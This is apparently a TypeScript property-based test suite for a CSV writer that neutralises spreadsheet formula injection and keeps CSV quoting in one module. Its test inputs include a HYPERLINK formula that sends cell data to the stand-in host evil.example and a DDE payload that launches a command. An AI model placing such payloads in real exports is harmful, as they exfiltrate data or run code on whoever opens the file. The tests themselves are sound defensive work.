/**
 * The one CSV writer, attacked: whatever the cells hold, the text parses back (csv-parse) into
 * the same rows and columns, every row ends in CRLF, no cell a spreadsheet would run as a
 * formula survives unprefixed, and only this module quotes CSV or loads csv-stringify.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatCsv, neutraliseCell, type CsvCell } from '../../../src/report/csv.js';

const RUNS = 300;

const cellText = fc.oneof(
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', ',', '"', ' ', "'", 'a', '1', '\u0000', '\u001b', '\u009b', '＝', 'é', '😀'), maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1', '\r=1', ' =1', '＝1+1'),
);
const cell: fc.Arbitrary<CsvCell> = fc.oneof(cellText, fc.integer(), fc.constant(null), fc.constant(undefined));
const rows = fc.integer({ min: 1, max: 6 }).chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }));

/** What a spreadsheet would run: OWASP's first characters, also after spaces or full-width. */
const RUNS_AS_FORMULA = /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/;

describe('the CSV writer', () => {
  it('parses back into the same rows, each cell neutralised, with CRLF after every row', async () => {
    await fc.assert(
      fc.asyncProperty(rows, async (rs) => {
        const text = await formatCsv(rs);
        expect(text.endsWith('\r\n')).toBe(true);
        const back = parse(text, { record_delimiter: '\r\n', relax_column_count: false }) as string[][];
        expect(back).toEqual(rs.map((r) => r.map(neutraliseCell)));
        // outside quoted cells, every line break is a CRLF row end
        const unquoted = text.replace(/"(?:[^"]|"")*"/g, '');
        expect(unquoted.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      }),
      { numRuns: RUNS },
    );
  });

  it('leaves no text cell a spreadsheet would run, and no control character but line breaks', () => {
    fc.assert(
      fc.property(cellText, (s) => {
        const v = neutraliseCell(s);
        if (RUNS_AS_FORMULA.test(s)) expect(v).toBe(`'${s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g, '\ufffd')}`);
        expect(v.startsWith("'") || !RUNS_AS_FORMULA.test(v)).toBe(true);
        expect(v).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
      }),
      { numRuns: RUNS },
    );
  });

  it('by example', async () => {
    expect(neutraliseCell('=SUM(A1)')).toBe("'=SUM(A1)");
    expect(neutraliseCell('-1')).toBe("'-1");
    expect(neutraliseCell(-1)).toBe('-1');
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell('Jo Bloggs')).toBe('Jo Bloggs');
    expect(await formatCsv([['a', 'b,c', 'say "hi"', 'x\ny', ' pad'], ['=1', 2, null, undefined, 'ok']])).toBe('a,"b,c","say ""hi""","x\ny"," pad"\r\n\'=1,2,,,ok\r\n');
  });
});

describe('every CSV wep writes goes through the one writer', () => {
  const SRC = join(__dirname, '../../../src');
  const files = (dir: string): string[] => readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? files(join(dir, n)) : n.endsWith('.ts') ? [join(dir, n)] : []));
  const sources = files(SRC).map((path) => ({ path: relative(SRC, path), text: readFileSync(path, 'utf8') }));

  it('only report/csv.ts loads csv-stringify', () => {
    expect(sources.filter((s) => /csv-stringify/.test(s.text)).map((s) => s.path)).toEqual(['report/csv.ts']);
  });

  it('no other module quotes CSV by hand (doubling quotes, joining cells with commas next to CSV)', () => {
    const handMade = sources.filter((s) => s.path !== 'report/csv.ts' && /csv/i.test(s.text) && (/replace\(\/"\/g, '""'\)/.test(s.text) || /\.join\(','\)/.test(s.text)));
    expect(handMade.map((s) => s.path)).toEqual([]);
  });
});
